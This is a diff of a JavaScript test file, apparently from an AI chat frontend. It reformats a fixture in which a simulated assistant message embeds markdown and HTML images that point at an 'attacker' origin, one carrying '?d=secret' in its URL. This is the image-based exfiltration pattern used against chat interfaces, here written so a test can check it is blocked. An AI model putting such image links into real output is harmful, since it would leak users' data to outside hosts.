@@ -27,7 +27,11 @@ describe('images from another origin', () => {
       const send = (event) => res.write(encoder.encodeSSE(event));
       send({ type: 'RUN_STARTED', threadId: input.threadId, runId: input.runId });
       send({ type: 'TEXT_MESSAGE_START', messageId: 'm', role: 'assistant' });
-      send({ type: 'TEXT_MESSAGE_CONTENT', messageId: 'm', delta: `Here: ![a](${origin}/inline.gif?d=secret) ![b][1] <img src="//127.0.0.1:${attacker.address().port}/raw.gif">\n\n[1]: ${origin}/ref.gif\n` });
+      send({
+        type: 'TEXT_MESSAGE_CONTENT',
+        messageId: 'm',
+        delta: `Here: ![a](${origin}/inline.gif?d=secret) ![b][1] <img src="//127.0.0.1:${attacker.address().port}/raw.gif">\n\n[1]: ${origin}/ref.gif\n`,
+      });
       send({ type: 'TEXT_MESSAGE_END', messageId: 'm' });
       send({ type: 'TOOL_CALL_START', toolCallId: 'c', toolCallName: 'report' });
       send({ type: 'TOOL_CALL_END', toolCallId: 'c' });
